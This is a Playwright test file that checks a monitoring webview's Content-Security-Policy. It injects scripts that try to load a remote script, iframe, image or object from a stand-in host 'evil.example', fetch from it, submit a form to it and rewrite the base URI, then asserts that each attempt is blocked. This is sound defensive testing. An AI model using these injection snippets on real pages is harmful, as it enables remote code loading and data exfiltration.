import assert from 'node:assert/strict';
import type { Frame, Request } from 'playwright-core';
import { useWorkbench } from '../../pages/support/openWorkbench';
import { signIn } from '../../pages/support/signIn';
import { panelOfThisRun } from '../../support/panelOfThisRun';

const evil = 'https://evil.example';

/**
 * What markup in a page might try, were it ever taken for markup, and what of the policy stops it. The browser shows an
 * empty page after the last one.
 */
const tries: readonly (readonly [name: string, directive: string, script: string])[] = [
  [
    'change what addresses are relative to',
    'base-uri',
    `const base = document.createElement('base');
     base.href = '${evil}/'; document.head.append(base);`,
  ],
  [
    'show another page inside',
    'default-src',
    `const frame = document.createElement('iframe');
     frame.src = '${evil}/frame'; document.body.append(frame);`,
  ],
  [
    'load a picture',
    'default-src',
    `const image = document.createElement('img');
     image.src = '${evil}/image'; document.body.append(image);`,
  ],
  [
    'run a script of its own',
    'script-src',
    `const script = document.createElement('script');
     script.src = '${evil}/script'; document.body.append(script);`,
  ],
  ['ask another server', 'default-src', `fetch('${evil}/fetch').catch(() => undefined);`],
  [
    'bring an object',
    'default-src',
    `const object = document.createElement('object');
     object.data = '${evil}/object'; document.body.append(object);`,
  ],
  ['change how it looks', 'style-src', `document.body.setAttribute('style', 'background: red');`],
  [
    'send a form',
    'form-action',
    `const form = document.createElement('form');
     form.action = '${evil}/form'; form.method = 'post'; form.target = '_self';
     document.body.append(form); form.submit();`,
  ],
];

describe('The policy of a page', () => {
  const workbench = useWorkbench({});
  const panel = panelOfThisRun();
  const asked: Request[] = [];
  let page: Frame;

  before(async () => {
    await panel.reset();
    workbench().page.on('request', (request) => asked.push(request));
    await workbench().openView();
    await signIn(workbench());
    await workbench().treeRow('ticket-bot', 'Monitoring').waitFor();
    const ts = Math.floor((await panel.now()) / 1000);
    const texts = { service: 'bot', environment: 'test', release: '1', instance: 'a' };
    const report = {
      ...{ type: 'Error', message: 'Policy1x', stack: [], cause: null, handled: false, ts },
      ...{ ...texts, tags: {}, context: {} },
    };
    await panel.call('monitoringIngest', { project: 'ticket-bot', report });
    await workbench().runCommand('Hosting Panel: Refresh Monitoring');
    await workbench().press(workbench().treeRow(/Policy1x/, 'Monitoring'));
    page = await workbench().webview(/Policy1x/);
    await page.getByRole('heading', { level: 1, name: /Policy1x/ }).waitFor();
  });

  it('allows one script and one style sheet, and nothing else', async () => {
    const policy = await page.evaluate<string>(
      `document.querySelector('meta[http-equiv="Content-Security-Policy"]').content`,
    );
    const parts = policy
      .split('; ')
      .map((part) => part.replace(/^(style-src|script-src) .*/, '$1'));
    assert.deepEqual(parts.sort(), [
      `base-uri 'none'`,
      `default-src 'none'`,
      `form-action 'none'`,
      'script-src',
      'style-src',
    ]);
    assert.match(policy, /script-src 'nonce-[\w+/]{24}'(;|$)/);
    assert.match(policy, /style-src 'nonce-[\w+/]{24}'(;|$)/);
    assert.doesNotMatch(policy, /unsafe|\*(?!\.)|data:|blob:/);
  });

  for (const [name, directive, script] of tries) {
    it(`lets nothing ${name}`, async () => {
      const { page: window } = workbench();
      const stopped = window.waitForEvent('console', {
        predicate: (said) => new RegExp(`directive:? ["']${directive} `).test(said.text()),
        timeout: 10_000,
      });
      await Promise.all([stopped, page.evaluate(`{ ${script} }`).catch(() => undefined)]);
    });
  }

  it('let nothing out: what was tried ended in the browser', () => {
    const tried = asked.filter((request) => request.url().startsWith(evil));
    assert.deepEqual(
      tried.filter((request) => request.failure()?.errorText !== 'csp').map((one) => one.url()),
      [],
    );
  });
});
